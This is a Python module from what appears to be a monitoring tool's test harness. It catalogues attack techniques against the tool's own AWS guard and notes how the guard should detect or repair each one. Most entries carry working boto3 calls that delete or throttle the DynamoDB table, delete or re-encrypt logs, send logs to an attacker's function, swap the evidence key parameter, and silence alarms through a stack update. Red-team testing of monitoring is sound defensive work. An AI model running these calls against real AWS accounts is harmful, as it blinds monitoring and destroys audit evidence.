"""Against what the guard keeps: the state table, parameters, log groups, stacks."""

from __future__ import annotations

import json
from typing import Any

from trailkeeper.evidence.names import EVIDENCE_KEY_PARAMETER, EVIDENCE_STACK
from trailkeeper.guards.techniques.technique import EITHER, Intruder, Technique, deny, policy


def _log_group(a: Intruder) -> str:
    return a.side.functions[0].log_group


def _unprotect(a: Intruder) -> None:
    a.cloudformation.update_termination_protection(
        StackName=a.side.stack, EnableTerminationProtection=False
    )


def _delete_table(a: Intruder) -> None:
    """Take its protection away first, without which AWS refuses."""
    if a.side.table.protected:
        a.dynamodb.update_table(TableName=a.side.table.name, DeletionProtectionEnabled=False)
    a.dynamodb.delete_table(TableName=a.side.table.name)


def _turn_everything_off(a: Intruder) -> None:
    """All that calls the function, and the alarms' tongues, by one call of CloudFormation.

    A template of that size is taken from a bucket alone (CloudFormation user guide, "Quotas").
    """
    found = a.cloudformation.get_template(StackName=a.side.stack, TemplateStage="Original")
    template = found["TemplateBody"]
    wanted = template if isinstance(template, dict) else json.loads(template)
    off = {
        "AWS::Events::Rule": {"State": "DISABLED"},
        "AWS::Scheduler::Schedule": {"State": "DISABLED"},
        "AWS::CloudWatch::Alarm": {"ActionsEnabled": False},
    }
    for each in wanted["Resources"].values():
        each.get("Properties", {}).update(off.get(each["Type"], {}))
    bucket = f"attackers-{a.names.account}"
    a.s3.create_bucket(Bucket=bucket)
    a.s3.put_object(Bucket=bucket, Key="off.json", Body=json.dumps(wanted).encode())
    a.cloudformation.update_stack(
        StackName=a.side.stack,
        TemplateURL=f"https://s3.amazonaws.com/{bucket}/off.json",
        Capabilities=["CAPABILITY_NAMED_IAM"],
    )


def _put_a_change_set_in_its_place(a: Intruder) -> None:
    """What the evidence stack made is kept; but its name is free once it is deleted."""
    stack = EVIDENCE_STACK
    a.cloudformation.update_termination_protection(
        StackName=stack, EnableTerminationProtection=False
    )
    a.cloudformation.delete_stack(StackName=stack)
    a.cloudformation.get_waiter("stack_delete_complete").wait(
        StackName=stack, WaiterConfig={"Delay": 1}
    )
    made = {"Type": "AWS::SNS::Topic", "Properties": {}}
    a.cloudformation.create_change_set(
        StackName=stack,
        ChangeSetName="foreign",
        ChangeSetType="CREATE",
        TemplateBody=json.dumps({"Resources": {"Foreign": made}}),
    )


def _add_index(a: Intruder) -> None:
    a.dynamodb.update_table(
        TableName=a.side.table.name,
        AttributeDefinitions=[{"AttributeName": "id", "AttributeType": "S"}],
        GlobalSecondaryIndexUpdates=[
            {
                "Create": {
                    "IndexName": "slow",
                    "KeySchema": [{"AttributeName": "id", "KeyType": "HASH"}],
                    "Projection": {"ProjectionType": "KEYS_ONLY"},
                    "OnDemandThroughput": {"MaxReadRequestUnits": 1, "MaxWriteRequestUnits": 1},
                }
            }
        ],
    )


def _delete_stream(a: Intruder) -> None:
    """The function writes its streams all the time; the newest is there."""
    streams = a.logs.describe_log_streams(logGroupName=_log_group(a))["logStreams"]
    a.logs.delete_log_stream(logGroupName=_log_group(a), logStreamName=streams[-1]["logStreamName"])


def _send_log_away(a: Intruder) -> None:
    group = _log_group(a)
    a.functions.add_permission(
        FunctionName=a.own_function,
        StatementId=group.rpartition("/")[2],
        Action="lambda:InvokeFunction",
        Principal="logs.amazonaws.com",
    )
    a.logs.put_subscription_filter(
        logGroupName=group, filterName="theirs", filterPattern="", destinationArn=a.own_function
    )


def _masking() -> str:
    identifiers = ["arn:aws:dataprotection::aws:data-identifier/EmailAddress"]
    operations: dict[str, Any] = {
        "audit": {"Audit": {"FindingsDestination": {}}},
        "mask": {"Deidentify": {"MaskConfig": {}}},
    }
    return json.dumps(
        {
            "Name": "mask",
            "Version": "2021-06-01",
            "Statement": [
                {"Sid": sid, "DataIdentifier": identifiers, "Operation": operation}
                for sid, operation in operations.items()
            ],
        }
    )


TECHNIQUES = (
    Technique(
        id="table-deleted",
        words="Unprotect and delete the table of what the function remembers",
        rights=("dynamodb:DeleteTable", "dynamodb:UpdateTable"),
        against=EITHER,
        documents=("guard-table.table",),
        how="Nothing in it decides by itself; the other half makes it again, empty",
        attack=_delete_table,
    ),
    Technique(
        id="table-policy-replaced",
        words="Let nobody write into the table",
        rights=("dynamodb:PutResourcePolicy",),
        against=EITHER,
        documents=("guard-table.policy",),
        how="The other half puts the table's policy back",
        attack=lambda a: a.dynamodb.put_resource_policy(
            ResourceArn=a.side.table.arn(a.names),
            Policy=policy(
                deny("dynamodb:PutItem", a.side.table.arn(a.names), Sid="Nobody", Principal="*")
            ),
        ),
    ),
    Technique(
        id="table-throttled",
        words="Let the table take one request a second",
        rights=("dynamodb:UpdateTable",),
        against=EITHER,
        documents=("guard-table.table",),
        how="The other half takes the limit off",
        attack=lambda a: a.dynamodb.update_table(
            TableName=a.side.table.name,
            BillingMode="PAY_PER_REQUEST",
            OnDemandThroughput={"MaxReadRequestUnits": 1, "MaxWriteRequestUnits": 1},
        ),
    ),
    Technique(
        id="table-encrypted",
        words="Encrypt the table with a key of the attacker, to be disabled later",
        rights=("dynamodb:UpdateTable",),
        against=EITHER,
        documents=("guard-table.table",),
        how="The other half has DynamoDB encrypt the table with its own key again",
        attack=lambda a: a.dynamodb.update_table(
            TableName=a.side.table.name,
            SSESpecification={"Enabled": True, "SSEType": "KMS", "KMSMasterKeyId": a.own_key},
        ),
    ),
    Technique(
        id="table-index-throttled",
        words="Hold up every write into the table by an index that takes one a second",
        rights=("dynamodb:UpdateTable",),
        against=EITHER,
        documents=("guard-table.table",),
        how="No index is ours; the other half takes it off",
        attack=_add_index,
    ),
    Technique(
        id="table-streamed",
        words="Have every change of the table sent to others",
        rights=("dynamodb:UpdateTable",),
        against=EITHER,
        documents=("guard-table.table",),
        how="No stream is ours; the other half turns it off",
        attack=lambda a: a.dynamodb.update_table(
            TableName=a.side.table.name,
            StreamSpecification={"StreamEnabled": True, "StreamViewType": "NEW_IMAGE"},
        ),
    ),
    Technique(
        id="table-replicated",
        words="Copy the table to another region, where its policy does not reach, and write there",
        rights=("dynamodb:UpdateTable",),
        against=EITHER,
        ends="told",
        how="Nothing in it decides by itself; only people know whether somebody needs the copy",
        attack=lambda a: a.dynamodb.update_table(
            TableName=a.side.table.name,
            ReplicaUpdates=[{"Create": {"RegionName": "eu-west-1"}}],
        ),
    ),
    Technique(
        id="table-keeps-everything",
        words="Let the table forget nothing any more",
        rights=("dynamodb:UpdateTimeToLive",),
        against=EITHER,
        documents=("guard-table.expiry",),
        how="The other half turns the expiry on again",
        attack=lambda a: a.dynamodb.update_time_to_live(
            TableName=a.side.table.name,
            TimeToLiveSpecification={"Enabled": False, "AttributeName": "expires"},
        ),
    ),
    Technique(
        id="deploy-parameter-swapped",
        words="Have the next deploy give the evidence a key of the attacker",
        rights=("ssm:PutParameter",),
        documents=("guard-parameter.key",),
        how="The watcher writes the key that was deployed, and says who wrote another",
        attack=lambda a: a.ssm.put_parameter(
            Name=EVIDENCE_KEY_PARAMETER, Value=a.own_key, Type="String", Overwrite=True
        ),
    ),
    Technique(
        id="log-kept-for-a-day",
        words="Keep the function's own log for a day",
        rights=("logs:PutRetentionPolicy",),
        against=EITHER,
        documents=("guard-logs.groups",),
        how="The other half has it kept as long as was deployed",
        attack=lambda a: a.logs.put_retention_policy(logGroupName=_log_group(a), retentionInDays=1),
    ),
    Technique(
        id="log-cut-out",
        words="Delete a stream of the function's own log",
        rights=("logs:DeleteLogStream",),
        against=EITHER,
        ends="told",
        how="What was in it is lost",
        attack=_delete_stream,
    ),
    Technique(
        id="log-sent-away",
        words="Have the function's own log sent to a function of the attacker",
        rights=("logs:PutSubscriptionFilter", "lambda:AddPermission"),
        against=EITHER,
        ends="told",
        how="Only people know who collects the logs of the account; nothing secret is in it",
        attack=_send_log_away,
    ),
    Technique(
        id="log-deleted",
        words="Delete the function's own log",
        rights=("logs:DeleteLogGroup",),
        against=EITHER,
        documents=("guard-logs.groups",),
        how="The other half makes it again; what was in it is lost",
        attack=lambda a: a.logs.delete_log_group(logGroupName=_log_group(a)),
    ),
    Technique(
        id="log-encrypted",
        words="Encrypt the function's own log with a key of the attacker, to be disabled later",
        rights=("logs:AssociateKmsKey",),
        against=EITHER,
        documents=("guard-logs.groups",),
        how="The other half has the log encrypted as it was deployed again",
        attack=lambda a: a.logs.associate_kms_key(logGroupName=_log_group(a), kmsKeyId=a.own_key),
    ),
    Technique(
        id="log-masked",
        words="Mask what is in the function's own log",
        rights=("logs:PutDataProtectionPolicy",),
        against=EITHER,
        documents=("guard-logs.groups",),
        how="No data protection policy is ours; the other half deletes it",
        attack=lambda a: a.logs.put_data_protection_policy(
            logGroupIdentifier=_log_group(a), policyDocument=_masking()
        ),
    ),
    Technique(
        id="stack-deleted",
        words="Delete the function's stack",
        rights=("cloudformation:DeleteStack",),
        against=EITHER,
        ends="no effect",
        how="CloudFormation refuses it while the stack is protected",
        mail="",
        attack=lambda a: a.refused(lambda: a.cloudformation.delete_stack(StackName=a.side.stack)),
    ),
    Technique(
        id="stack-unprotected",
        words="Take away the stack's protection from deletion",
        rights=("cloudformation:UpdateTerminationProtection",),
        against=EITHER,
        documents=("guard-stack.protection",),
        how="The other half protects it again",
        attack=_unprotect,
    ),
    Technique(
        id="stack-updated-off",
        words="Update the function's stack so that its rules and schedules are off and its alarms "
        "tell nobody",
        rights=(
            *("cloudformation:UpdateStack", "cloudformation:GetTemplate", "s3:CreateBucket"),
            *("s3:GetObject", "s3:PutObject"),
        ),
        against=EITHER,
        ends="told",
        how=(
            "CloudFormation itself tells the other half, which says who it was; a quarter of an "
            "hour later, when it can be no deploy any more, it puts everything back"
        ),
        attack=_turn_everything_off,
    ),
    Technique(
        id="stack-under-review",
        words="Delete the evidence stack, and hold off the repairs by a change set of that name",
        rights=(
            "cloudformation:CreateChangeSet",
            "cloudformation:DeleteStack",
            "cloudformation:UpdateTerminationProtection",
        ),
        ends="told",
        how=(
            "What it made is kept and guarded as before: a change set that waits is no deploy. "
            "Both are told, the deletion by both ways to people"
        ),
        way="alerts",
        mail="Change set waits under the name of stack TrailkeeperEvidence",
        attack=_put_a_change_set_in_its_place,
    ),
)
